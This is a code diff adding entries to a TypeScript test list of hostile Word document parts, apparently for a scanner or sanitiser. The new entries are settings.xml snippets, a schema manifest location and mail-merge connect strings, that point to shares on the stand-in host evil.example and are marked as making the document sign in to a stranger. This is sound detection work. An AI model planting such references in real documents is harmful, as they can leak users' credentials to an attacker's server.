@@ -49,6 +49,18 @@ export const hostileAddresses: HostileManuscript[] = [
 	inText('a drawing with a link to a picture on a share', vml('o:href="file://evil.example/x.png"')),
 	inPart('an add-in of the document', 'docProps/custom.xml', property('_AssemblyLocation'), starts),
 	inPart('the name of an add-in', 'docProps/custom.xml', property(' _assemblyname '), starts),
+	...[
+		'<sl:schemaLibrary xmlns:sl="sl"><sl:schema sl:uri="a" sl:manifestLocation="\\\\evil.example\\s\\m.xml"/></sl:schemaLibrary>',
+		'<w:mailMerge><w:connectString w:val="Provider=a;Data Source=\\\\evil.example\\s\\a.mdb;Mode=Read"/></w:mailMerge>',
+		'<w:mailMerge><w:connectString w:val="DSN=&quot;file://evil.example/a&quot;"/></w:mailMerge>',
+	].map((inside) =>
+		inPart(
+			`settings with a share: ${inside.slice(0, 60)}`,
+			'word/settings.xml',
+			`<w:settings xmlns:w="w">${inside}</w:settings>`,
+			'signs in to a stranger',
+		),
+	),
 	inPart(
 		'a base of links on a share',
 		'docProps/app.xml',
